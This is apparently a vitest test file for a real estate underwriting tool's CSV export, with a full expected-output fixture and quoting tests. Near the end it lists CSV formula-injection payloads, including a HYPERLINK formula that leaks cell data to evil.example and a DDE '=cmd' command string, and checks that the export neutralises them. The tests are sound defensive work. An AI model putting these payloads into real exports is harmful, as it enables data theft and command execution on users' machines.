import { analyze } from '@cre/underwriting';
import { describe, expect, it } from 'vitest';
import { FIXTURE_AS_OF, officeDeal, retailRentRoll } from '../../../../test/analyzer-fixtures';
import { toAnalysisInput } from '../model/deal-mapping';
import { buildAnalysisCsv, csvCell, csvFileName, csvLine } from './csv';

const csvOf = (values: ReturnType<typeof officeDeal>) =>
  buildAnalysisCsv({ values, asOf: FIXTURE_AS_OF, result: analyze(toAnalysisInput(values, FIXTURE_AS_OF)) });

const OFFICE_CSV = `"Section","Field","Value"
"Inputs","Property Name","Harbor Point Office"
"Inputs","Address","1200 Ocean Ave"
"Inputs","City","Long Beach"
"Inputs","State","CA"
"Inputs","Zip Code","90802"
"Inputs","Property Type","Office"
"Inputs","Year Built","1998"
"Inputs","Purchase Price","$2,500,000"
"Inputs","Square Feet","20,000"
"Inputs","Hold Period","5 years"
"Inputs","Rent Input Mode","Total annual"
"Inputs","Annual Rent","$300,000"
"Inputs","Other Income","$12,000"
"Inputs","Vacancy Rate","5.00%"
"Inputs","NNN Lease","No"
"Inputs","NNN Escalation Rate","2.50%"
"Inputs","Rent Escalation Rate","3.00%"
"Inputs","Appreciation Rate","3.00%"
"Inputs","Property Taxes","$30,000"
"Inputs","Insurance","$8,000"
"Inputs","Maintenance","$15,000"
"Inputs","Management Fees","$12,000"
"Inputs","Repairs","$4,000"
"Inputs","Other Expenses","$2,000"
"Inputs","Down Payment","25.00%"
"Inputs","Interest Rate","6.50%"
"Inputs","Loan Term","25 years"
"Inputs","Interest Only","No"
"Inputs","Closing Costs","0.00%"
"Inputs","Selling Costs","0.00%"
"Inputs","Market Cap Rate","7.00%"
"Inputs","Exit Cap Rate (input)","Not set"
"Inputs","Discount Rate","Not set"
"Results","Net Operating Income","$226,000"
"Results","Property Value","$3,228,571"
"Results","Going-In Cap Rate","9.04%"
"Results","Exit Cap Rate","9.54%"
"Results","Cash-on-Cash Return","11.85%"
"Results","IRR","22.33%"
"Results","ROI","11.85%"
"Results","ROE","5.47%"
"Results","Annual Cash Flow","$74,078"
"Results","DSCR","1.49x"
"Results","Debt Yield","12.05%"
"Results","Break-Even Occupancy","71.45%"
"Results","Equity Multiple","2.38x"
"Results","Down Payment","$625,000 (25.00%)"
"Results","Equity Invested","$625,000"
"Results","Loan Amount","$1,875,000"
"Results","Interest Rate","6.50%"
"Results","Loan Term","25 years"
"Results","Monthly Payment","$12,660"
"Results","Annual Debt Service","$151,922"
"Results","Loan-to-Value (LTV)","75.0%"
"Results","Gross Potential Rent","$300,000"
"Results","Effective Gross Income","$297,000"
"Results","Operating Expenses","$71,000"
"Results","NNN Charges per Sq Ft","$2.00"
"Results","Sale Price","$2,746,289"
"Results","Net Sale Proceeds","$1,048,248"
"Results","Optimal Hold Period","6 years"
"Results","Hold Strategy","medium-term"
"Results","Optimal Hold Reason","A 6-year hold is medium-term and gives the highest IRR of the 3- to 15-year holds: 22.35%."

"What you can pay"
"Target","Max Price","IRR","DSCR","Cash-on-Cash","Note"
"Max price for 15% IRR","$3,157,690","15.00%","1.18x","4.32%",""
"Max price for 1.25x DSCR","$2,975,219","16.75%","1.25x","6.08%",""
"Max price for 8% cash-on-cash","$2,798,116","18.63%","1.33x","8.00%",""

"Cash Flow Projections"
"Year","NOI","Debt Service","Cash Flow","Cumulative Cash Flow"
"1","$226,000","$151,922","$74,078","$74,078"
"2","$232,780","$151,922","$80,858","$154,937"
"3","$239,763","$151,922","$87,842","$242,779"
"4","$246,956","$151,922","$95,035","$337,813"
"5","$254,365","$151,922","$102,443","$440,257"

"Value Projections"
"Year","Property Value","Appreciation"
"1","$3,325,429","3.00%"
"2","$3,425,191","6.09%"
"3","$3,527,947","9.27%"
"4","$3,633,786","12.55%"
"5","$3,742,799","15.93%"

"Risk: Tornado (IRR)"
"Variable","Low","High","IRR at Low","IRR at High","Swing"
"Base (as entered)","","","22.33%","22.33%",""
"Rent level","0.90x","1.10x","17.94%","26.64%","8.70%"
"Purchase price","$2,250,000","$2,750,000","26.13%","19.18%","6.95%"
"Rent escalation rate","2.00%","4.00%","19.43%","25.08%","5.65%"
"Exit cap rate","9.04%","10.04%","24.84%","19.86%","4.98%"
"Interest rate","5.50%","7.50%","24.59%","20.01%","4.58%"
"Vacancy rate","0.00%","10.00%","24.61%","20.03%","4.57%"
"Expense level","0.90x","1.10x","23.41%","21.25%","2.16%"
`;

describe('CSV export', () => {
  it('quotes every cell and doubles inner quotes', () => {
    expect(csvCell('Say "hi", ok')).toBe('"Say ""hi"", ok"');
    expect(csvCell(12)).toBe('"12"');
    expect(csvLine(['a', '', 'b"c'])).toBe('"a","","b""c"');
  });

  it('names the file cre-analysis-<yyyy-mm-dd>.csv', () => {
    expect(csvFileName(new Date(2026, 2, 7, 23, 59))).toBe('cre-analysis-2026-03-07.csv');
  });

  it('exports the inputs, every result, the projections and the tornado of an aggregate deal', () => {
    expect(csvOf(officeDeal())).toBe(OFFICE_CSV.replace(/\n/g, '\r\n'));
  });

  it('adds the rent roll, occupancy, WALT and NNN projections for a NNN rent roll', () => {
    const lines = csvOf(retailRentRoll()).split('\r\n');
    expect(lines).not.toContain('"Inputs","Annual Rent","$0"');
    expect(lines).toEqual(
      expect.arrayContaining([
        '"Inputs","Rent Input Mode","Individual rent roll"',
        '"Inputs","Projection","Simple growth"',
        '"Inputs","NNN Lease","Yes"',
        '"Inputs","NNN Input Method","Per sq ft estimate"',
        '"Inputs","NNN Charges per Sq Ft","$6.50"',
        '"Results","Net Operating Income","$311,024"',
        '"Results","Gross Potential Rent","$339,200"',
        '"Results","Leased Sq Ft","10,000"',
        '"Results","Available Sq Ft","2,000"',
        '"Results","Average Rent per Sq Ft","$28.88"',
        '"Results","WALT","4.76 years"',
      ]),
    );
    const rentRoll = lines.indexOf('"Rent Roll"');
    expect(lines.slice(rentRoll, rentRoll + 5)).toEqual([
      '"Rent Roll"',
      '"Suite","Tenant","Sq Ft","Rent/Sq Ft","Lease Term (Months)","Free Months","Tenant Improvements","Annual Increase","Start Date","End Date","Recovery","Market Rent/Sq Ft","Rent Steps","Annual Rent","Effective Rent","Remaining Term"',
      '"","Corner Coffee","1,800","$36.00","60","2","$25,000","3.00%","2025-01-01","2029-12-31","NNN (property)","Property","","$64,800","$62,640","3.11 years"',
      '"","Riverside Dental","3,200","$32.50","120","6","$80,000","2.50%","2024-06-01","2034-05-31","NNN (property)","Property","","$104,000","$98,800","7.52 years"',
      '"","FitLab Gym","5,000","$24.00","84","0","$0","3.00%","2023-03-01","2030-02-28","NNN (property)","Property","","$120,000","$120,000","3.27 years"',
    ]);
    // the NNN projections, then the risk sections (csv-risk.test.ts)
    const nnn = lines.indexOf('"NNN Projections"');
    expect(lines.slice(nnn, nnn + 9)).toEqual([
      '"NNN Projections"',
      '"Year","NNN Charges per Sq Ft","Total NNN Charges"',
      '"1","$6.50","$78,000"',
      '"2","$6.66","$79,950"',
      '"3","$6.83","$81,949"',
      '"4","$7.00","$83,997"',
      '"5","$7.17","$86,097"',
      '',
      '"Risk: Tornado (IRR)"',
    ]);
  });

  it('escapes quotes in user text such as tenant and property names', () => {
    const values = retailRentRoll();
    values.name = 'The "Maple" Plaza';
    values.tenantLeases[0] = { ...values.tenantLeases[0]!, tenantName: 'Joe\'s "Best" Coffee, LLC' };
    const csv = csvOf(values);
    expect(csv).toContain('"Inputs","Property Name","The ""Maple"" Plaza"');
    expect(csv).toContain('"Joe\'s ""Best"" Coffee, LLC","1,800"');
  });

  // Each attack string of issue 10 item 2 (and a tab, a carriage return and a leading minus), with
  // the cell written for it as the project name (trimmed by the export) and as a tenant name.
  const ATTACKS: [string, string, string][] = [
    [
      '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`,
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`,
    ],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`, `"'=cmd|' /C calc'!A0"`],
    ['+1+1', `"'+1+1"`, `"'+1+1"`],
    ['@SUM(1)', `"'@SUM(1)"`, `"'@SUM(1)"`],
    ['-1+1', `"'-1+1"`, `"'-1+1"`],
    ['\t=1+1', `"'=1+1"`, `"'\t=1+1"`],
    ['\r=1+1', `"'=1+1"`, `"'\r=1+1"`],
  ];

  it.each(ATTACKS)(
    'neutralises %j as the project name and as a tenant name',
    (attack, nameCell, tenantCell) => {
      const values = retailRentRoll();
      values.name = attack;
      values.tenantLeases[1] = { ...values.tenantLeases[1]!, tenantName: attack };
      const lines = csvOf(values).split('\r\n');
      expect(lines[1]).toBe(`"Inputs","Property Name",${nameCell}`);
      const rentRoll = lines.indexOf('"Rent Roll"');
      expect(lines[rentRoll + 3]).toBe(
        `"",${tenantCell},"3,200","$32.50","120","6","$80,000","2.50%","2024-06-01","2034-05-31","NNN (property)","Property","","$104,000","$98,800","7.52 years"`,
      );
    },
  );

  it('neutralises the address, city, state, zip code and property type', () => {
    const values = officeDeal();
    values.address = '=1+1';
    values.city = '+SUM(A1:A9)';
    values.state = '@A1';
    values.zipCode = '-2+3';
    values.propertyType = "=cmd|' /C calc'!A0";
    expect(csvOf(values).split('\r\n').slice(2, 7)).toEqual([
      `"Inputs","Address","'=1+1"`,
      `"Inputs","City","'+SUM(A1:A9)"`,
      `"Inputs","State","'@A1"`,
      `"Inputs","Zip Code","'-2+3"`,
      `"Inputs","Property Type","'=cmd|' /C calc'!A0"`,
    ]);
  });

  it('keeps negative figures as numbers (a negative cash flow, IRR, multiple and appreciation)', () => {
    const values = { ...officeDeal(), propertyTaxes: 200_000, appreciationRate: -4, downPaymentPercent: 10 };
    const lines = csvOf(values).split('\r\n');
    expect(lines).toEqual(
      expect.arrayContaining([
        '"Inputs","Appreciation Rate","-4.00%"',
        '"Results","Cash-on-Cash Return","-50.52%"',
        '"Results","IRR","-35.51%"',
        '"Results","Annual Cash Flow","-$126,306"',
        '"Results","Equity Multiple","-1.13x"',
        '"1","$56,000","$182,306","-$126,306","-$126,306"',
        '"5","$63,028","$182,306","-$119,277","-$614,218"',
        '"5","$652,298","-18.46%"',
      ]),
    );
    expect(lines.filter((line) => line.includes("'"))).toEqual([]);
  });
});
